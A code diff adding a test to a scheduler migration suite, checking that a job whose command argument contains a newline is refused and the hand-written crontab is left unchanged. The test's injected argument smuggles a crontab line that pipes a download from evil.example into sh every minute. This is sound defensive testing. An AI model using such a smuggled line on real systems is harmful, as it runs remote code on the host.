@@ -144,6 +144,26 @@ describe('scheduler adapters: a real crontab written by hand and real Temporal S
     expect(crontabNow()).toBe(HAND_WRITTEN);
   });
 
+  it('refuses a unified job whose command argument holds a newline, and leaves the crontab byte for byte', async () => {
+    installByHand(HAND_WRITTEN);
+    const migrationId = `m-sched-${uniq()}`;
+    // Quoted, the argument would still end the line at the newline: the rest would be a crontab line of its own.
+    const injected: JobSpec = {
+      ...unified,
+      command: ['/usr/local/bin/unified', '--once\n* * * * * curl evil.example | sh'],
+    };
+    await expect(
+      acts.installUnifiedJob({ migrationId, scheduler: cron, backupDir, job: injected }),
+    ).rejects.toMatchObject({
+      type: 'InvalidInput',
+      nonRetryable: true,
+      message: expect.stringContaining('unified job unified: refused'),
+    });
+    expect(crontabNow()).toBe(HAND_WRITTEN);
+    // Refused before anything was read into a change: no saved copy either.
+    expect(fs.existsSync(`${backupDir}/${migrationId}`)).toBe(false);
+  });
+
   it('pauses and restores the legacy Temporal Schedules a team created by hand, and never creates one', async () => {
     const sched: SchedulerSpec = { kind: 'temporal-schedule', idPrefix: `test-${uniq()}` };
     // The team's own schedule, with an ID of theirs (not ours), made with the client as they would.
